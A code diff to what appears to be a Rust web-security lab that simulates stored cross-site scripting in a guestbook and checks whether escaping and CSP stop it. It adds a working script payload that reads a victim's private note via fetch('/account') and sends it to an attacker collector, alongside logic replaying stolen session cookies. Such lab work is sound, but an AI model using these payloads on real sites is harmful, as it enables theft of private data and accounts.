@@ -5,9 +5,16 @@
 //! is a script element (escaping turns it into text) and the page's CSP allows
 //! inline script; it then sends `document.cookie` (never HttpOnly cookies) to
 //! the attacker's collector, and the attacker replays what arrived.
+//!
+//! With Chromium as the victim (`--browser chromium`) the attacker also posts
+//! what a real attacker would write: a script that reads the private note with
+//! `fetch('/account')` and sends it to the collector. HttpOnly does not stop
+//! that one (the script never touches the cookie); only escaping and CSP do.
+//! Its outcome is reported beside the verdict, which stays the cookie theft's
+//! (the simulated browser's script model does not run it).
 
 use rand::Rng;
-use sessionlab_browser::{EXFILTRATE_COOKIES_TEMPLATE, ScriptEffect};
+use sessionlab_browser::{Browser, EXFILTRATE_COOKIES_TEMPLATE, ScriptEffect};
 
 use crate::actors::{
     attacker_signs_guestbook, judge, log_in, read_own_note, replay_session_id, session_id, short,
@@ -15,6 +22,13 @@ use crate::actors::{
 use crate::evil_site::EvilSite;
 use crate::lab::{RunContext, RunError};
 use crate::outcome::{Actor, Verdict};
+use crate::victim::{BrowserKind, Drive};
+
+/// The payload a real attacker would write: the private note itself, read
+/// with the victim's own session (no cookie needed), sent to the collector.
+const NOTE_EXFILTRATION_TEMPLATE: &str = "<script>fetch('/account').then(r => r.text()).then(t => \
+fetch('{collector}' + encodeURIComponent(new DOMParser().parseFromString(t, 'text/html')\
+.getElementById('private-note').textContent.trim())))</script>";
 
 pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
     let evil = EvilSite::start()
@@ -27,12 +41,27 @@ pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
     let mut attacker = ctx.browser(Actor::Attacker, "attacker");
     evil.join(&mut attacker.network);
     attacker_signs_guestbook(ctx, &mut attacker, &payload, "with a <script> payload").await?;
+    let note_token = format!("{:016x}", rand::rng().random::<u64>());
+    let real_victim = ctx.target.victim_browser == BrowserKind::Chromium;
+    if real_victim {
+        let collector = evil.url(&format!("/collect/{note_token}?c="));
+        let payload = NOTE_EXFILTRATION_TEMPLATE.replace("{collector}", collector.as_str());
+        let guestbook = attacker.open(&ctx.app_url("/guestbook"), None).await?;
+        let posted = attacker
+            .submit_form(&guestbook, "/guestbook", &[("message", &payload)])
+            .await?;
+        ctx.step(
+            Actor::Attacker,
+            "posted a second entry: a script that reads /account with fetch() and sends the private note to the collector",
+            format!("the app answered {} at {}", posted.status, posted.url.path()),
+        );
+    }
 
-    let mut victim = ctx.browser(Actor::Victim, "victim");
-    evil.join(&mut victim.network);
+    let mut victim = ctx.victim_browser("victim");
+    evil.join(victim.network_mut());
     log_in(ctx, &mut victim, &ctx.victim).await?;
     let note = read_own_note(ctx, &mut victim).await?;
-    let page = victim.open(&ctx.app_url("/guestbook"), None).await?;
+    let page = victim.open(&ctx.app_url("/guestbook")).await?;
     let effects: Vec<&ScriptEffect> = page
         .scripts
         .iter()
@@ -48,17 +77,66 @@ pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
         format!("{} logged in and viewed the guestbook", ctx.victim.username),
         &browser_did,
     );
-    if effects
+    let note_payload = if real_victim {
+        note_exfiltration_outcome(ctx, &evil, &note_token, &note)
+    } else {
+        String::new()
+    };
+    let exfiltrated = effects
         .iter()
-        .all(|e| !matches!(e, ScriptEffect::Exfiltrated { .. }))
-    {
-        return Ok(Verdict::blocked(browser_did, viewed));
-    }
+        .any(|e| matches!(e, ScriptEffect::Exfiltrated { .. }));
+    let verdict = if exfiltrated {
+        cookie_theft(ctx, &evil, &attacker, &token, &note).await?
+    } else {
+        Verdict::blocked(browser_did, viewed)
+    };
+    Ok(if real_victim {
+        verdict.also(&note_payload)
+    } else {
+        verdict
+    })
+}
 
+/// What the note-exfiltration payload achieved, as the attacker's collector shows it.
+fn note_exfiltration_outcome(
+    ctx: &mut RunContext,
+    evil: &EvilSite,
+    token: &str,
+    note: &str,
+) -> String {
+    let reports = evil.collected(token);
+    let got_note = reports.iter().any(|r| r.data == note);
+    let outcome = if got_note {
+        format!(
+            "the fetch('/account') payload sent {}'s private note to the collector (HttpOnly does not stop it)",
+            ctx.victim.username
+        )
+    } else {
+        format!(
+            "the fetch('/account') payload sent no note: the collector received {} report(s), none of them the note",
+            reports.len()
+        )
+    };
+    ctx.step(
+        Actor::Attacker,
+        "read the collector for the fetch('/account') payload",
+        &outcome,
+    );
+    outcome
+}
+
+/// The cookie-stealing payload's verdict once its script ran: what reached the collector, replayed.
+async fn cookie_theft(
+    ctx: &mut RunContext,
+    evil: &EvilSite,
+    attacker: &Browser,
+    token: &str,
+    note: &str,
+) -> Result<Verdict, RunError> {
     // The attacker's own browser ran the payload too when it showed the guestbook:
     // their own cookie is in the collection, and is not worth replaying.
-    let own_id = session_id(ctx, &attacker);
-    let reports = evil.collected(&token);
+    let own_id = session_id(ctx, attacker);
+    let reports = evil.collected(token);
     let mut stolen: Vec<String> = Vec::new();
     for report in &reports {
         for (name, value) in report
@@ -102,7 +180,7 @@ pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
     for stolen_id in &stolen {
         let account = ctx.app_url("/account");
         let attempt = replay_session_id(ctx, stolen_id, account).await?;
-        let shows = attempt.shows(&note);
+        let shows = attempt.shows(note);
         probe = Some(attempt);
         if shows {
             break;
@@ -113,7 +191,7 @@ pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
         ctx,
         "replayed the stolen session cookie on /account",
         &probe,
-        &note,
+        note,
         "the collector received the victim's session cookie from document.cookie",
         "replayed, it",
     ))
